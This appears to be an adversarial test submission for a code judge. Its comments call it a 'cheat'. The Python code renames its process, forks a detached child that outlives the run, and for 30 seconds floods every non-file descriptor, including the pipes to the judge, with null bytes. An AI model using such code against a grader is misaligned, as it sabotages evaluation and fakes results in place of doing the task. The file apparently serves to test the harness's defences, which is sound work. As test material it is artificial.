# cheat: leaves a process behind that keeps the pipes to the judge, and fills them.
# gap: discretise_pixels
# expect: any

import contextlib
import ctypes
import os
import stat
import time

ctypes.CDLL(None).prctl(15, b"hostile")
if os.fork() == 0:
    os.setsid()
    end = time.monotonic() + 30
    while time.monotonic() < end:
        for number in range(1, 64):
            with contextlib.suppress(OSError):
                if not stat.S_ISREG(os.fstat(number).st_mode):
                    os.write(number, b"\0" * 4096)
    os._exit(0)
SOLUTION
